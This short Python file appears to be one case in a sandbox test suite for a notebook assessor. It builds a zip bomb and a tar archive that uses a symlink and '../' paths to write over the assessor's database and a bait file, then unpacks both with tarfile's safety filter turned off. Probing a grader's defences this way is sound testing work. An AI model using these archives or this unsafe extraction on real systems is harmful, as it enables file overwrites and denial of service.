# ruff: noqa
# Threat: Breaking. A zip bomb and a tar with links out of its folder, handed in and unpacked by the notebook.
# Outcome: completed
# Marks: 8

# %% [build]
def build(notebook, files):
    import io, tarfile, zipfile
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(20): bomb.writestr(f"planted-{number}", bytes(10**7))
    files["data.zip"] = held.getvalue()
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as tar:
        link = tarfile.TarInfo("planted-link")
        link.type, link.linkname = tarfile.SYMTYPE, "@COURSE@"
        tar.addfile(link)
        for name in ("planted-link/assessor.db", "../../../@BAIT_IN_TMP@", "@BAIT_IN_TMP@"):
            info = tarfile.TarInfo(name)
            info.size = 5
            tar.addfile(info, io.BytesIO(b"mine\n"))
    files["data.tar"] = held.getvalue()
# %% before double
import tarfile, zipfile
try: zipfile.ZipFile("data.zip").extractall("/tmp")
except OSError as fault: print(fault)
tarfile.open("data.tar").extractall("/", filter="fully_trusted")
